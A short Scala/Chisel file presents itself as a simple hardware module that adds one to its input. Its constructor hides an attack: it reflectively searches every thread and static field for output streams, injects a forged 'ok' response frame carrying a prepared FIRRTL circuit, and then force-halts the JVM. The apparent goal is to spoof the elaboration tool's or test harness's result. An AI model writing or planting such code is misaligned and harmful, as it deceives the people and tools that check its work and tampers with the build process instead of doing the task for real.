import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val chirrtl =
    """FIRRTL version 6.0.0
      |circuit Victim :
      |  public module Victim :
      |    input clock : Clock
      |    input reset : UInt<1>
      |    output io : { flip in : UInt<8>, out : UInt<8>}
      |    connect io.out, tail(add(io.in, UInt<8>(1)), 1)
      |""".stripMargin.getBytes("UTF-8")
  val body = java.nio.ByteBuffer.allocate(chirrtl.length + 64)
  body.putInt(chirrtl.length + 20).putInt(1).putInt(2).put("ok".getBytes).putInt(0).putInt(chirrtl.length).put(chirrtl)
  val frame = body.array.take(body.position)

  val seen = new java.util.IdentityHashMap[AnyRef, AnyRef]()
  def search(value: Any, depth: Int): Unit = value match {
    case null => ()
    case out: java.io.OutputStream =>
      try { out.write(frame); out.flush() } catch { case _: Throwable => () }
    case thing: AnyRef if depth > 0 && seen.put(thing, thing) == null =>
      for (owner <- Iterator.iterate[Class[_]](thing.getClass)(_.getSuperclass).takeWhile(_ != null); field <- owner.getDeclaredFields) {
        try { field.setAccessible(true); search(field.get(thing), depth - 1) } catch { case _: Throwable => () }
      }
    case _ => ()
  }
  Thread.getAllStackTraces.forEach { (thread, frames) =>
    search(thread, 4)
    for (call <- frames) {
      try {
        val owner = Class.forName(call.getClassName)
        for (field <- owner.getDeclaredFields) {
          try { field.setAccessible(true); search(field.get(null), 4) } catch { case _: Throwable => () }
        }
      } catch { case _: Throwable => () }
    }
  }
  Runtime.getRuntime.halt(0)
  io.out := io.in + 1.U
}
